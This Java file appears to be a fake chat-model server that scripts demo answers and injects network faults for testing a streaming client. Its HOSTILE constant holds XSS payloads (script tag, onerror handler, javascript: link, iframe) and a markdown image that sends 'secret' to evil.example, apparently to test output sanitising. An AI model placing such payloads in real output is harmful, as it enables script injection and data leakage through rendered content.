package dev.rill.model.fake;

import com.fasterxml.jackson.databind.json.JsonMapper;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.function.Function;

/**
 * Answers for trying things by hand: searches once where a tool is offered, then streams Markdown with citations.
 * Words such as {@code [[stall]]} in the question choose a fault.
 */
public final class DemoAnswers implements Function<RecordedRequest, Script> {
    private static final JsonMapper JSON = new JsonMapper();
    private static final String TEXT = """
            ## What the documents say

            A short answer first: **yes**, and the first passage says how [1]. The second one adds a condition [2].

            1. Open the file that is named in the first source [1].
            2. Change the *one* setting that it speaks of.
            3. Try it, and look at the log.

            ```java
            for (String line : lines) {
                System.out.println(line); // a comment, and a < b && c > d
            }
            ```

            | setting | default | what it does |
            |---|---|---|
            | `RILL_KEEP_ALIVE` | `PT10S` | a comment in silence |
            | `RILL_MAX_STREAMS` | 2000 | streams at once |

            - A list with **bold**, *italic* and `code`.
            - Umlauts and emoji: äöü ß – 👩‍👩‍👧 🎉.

            > A quotation of the second passage [2], which goes on for a while so that it has to be wrapped.

            See [the manual](https://example.com/manual) for the rest. A citation of nothing: [99].
            """;
    private static final String HOSTILE =
            "Look: <script>window.hacked=1</script> <img src=x onerror=\"window.hacked=1\">"
            + " ![leak](https://evil.example/leak.png?q=secret) [click](javascript:window.hacked=1)"
            + " <iframe src=\"https://evil.example\"></iframe> </textarea> done [1].";

    private final Duration delay;

    public DemoAnswers(Duration delay) {
        this.delay = delay;
    }

    @Override
    public Script apply(RecordedRequest request) {
        String question = request.question();
        if (!request.streams()) {
            return Answer.of("[1, 2, 3]");
        }
        Script refused = refusal(question, request.offersTools());
        if (refused != null) {
            return refused;
        }
        if (request.offersTools() && !request.hasToolResult() && !question.contains("[[notool]]")) {
            return search(question, request.json().at("/tools/0/function/name").asText());
        }
        return answer(question);
    }

    private Script refusal(String question, boolean toolsOffered) {
        if (question.contains("[[500]]")) {
            return Script.status(500);
        }
        if (question.contains("[[401]]")) {
            return Script.status(401);
        }
        if (question.contains("[[404]]")) {
            return Script.status(404);
        }
        if (question.contains("[[429]]")) {
            return Script.status(429, Map.of("Retry-After", "3600"));
        }
        if (question.contains("[[notools]]") && toolsOffered) {
            return Script.reply(400, "application/json",
                    "{\"error\":{\"message\":\"tools are not supported by this model\",\"code\":400}}");
        }
        if (question.contains("[[html]]")) {
            return Script.reply(200, "text/html", "<html><body>a proxy's login page</body></html>");
        }
        return null;
    }

    private Answer search(String question, String tool) {
        String query = question.replaceAll("\\[\\[.*?]]", "").strip();
        String arguments = JSON.createObjectNode().put("query", query.substring(0, Math.min(200, query.length())))
                .toString();
        return Answer.toolCall(tool, arguments).withDelay(delay.dividedBy(4));
    }

    private Script answer(String question) {
        Answer plain = Answer.words(text(question)).withDelay(pace(question));
        if (question.contains("[[reasoning]]")) {
            plain = reasoning(plain);
        }
        if (question.contains("[[silent]]")) {
            return plain.withFault(Phase.REQUEST_READ, Effect.silence());
        }
        if (question.contains("[[notoken]]")) {
            return plain.withFault(Phase.HEADERS_SENT, Effect.silence());
        }
        if (question.contains("[[stall]]")) {
            return plain.withFaultAfter(12, Effect.silence());
        }
        if (question.contains("[[fin]]")) {
            return plain.withFaultAfter(12, Effect.fin());
        }
        if (question.contains("[[rst]]")) {
            return plain.withFaultAfter(12, Effect.rst());
        }
        if (question.contains("[[badjson]]")) {
            return plain.withFaultAfter(12, Effect.send("data: {\"choices\":[{\n\n"));
        }
        if (question.contains("[[error]]")) {
            return plain.withFaultAfter(12, Effect.send("data: {\"error\":{\"message\":\"boom\",\"code\":500}}\n\n"));
        }
        if (question.contains("[[nodone]]")) {
            return plain.withoutDone();
        }
        if (question.contains("[[hold]]")) {
            return plain.withFault(Phase.DONE_SENT, Effect.silence());
        }
        return plain;
    }

    private static String text(String question) {
        if (question.contains("[[hostile]]")) {
            return HOSTILE;
        }
        if (question.contains("[[short]]")) {
            return "A short answer [1].";
        }
        return question.contains("[[long]]") ? TEXT.repeat(20) : TEXT;
    }

    private Duration pace(String question) {
        if (question.contains("[[fast]]")) {
            return Duration.ZERO;
        }
        return question.contains("[[slow]]") ? delay.multipliedBy(10) : delay;
    }

    private static Answer reasoning(Answer answer) {
        List<Delta> deltas = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            deltas.add(new Delta.Reasoning("thinking "));
        }
        deltas.addAll(answer.deltas());
        return Answer.ofDeltas(deltas).withDelay(answer.delay());
    }
}
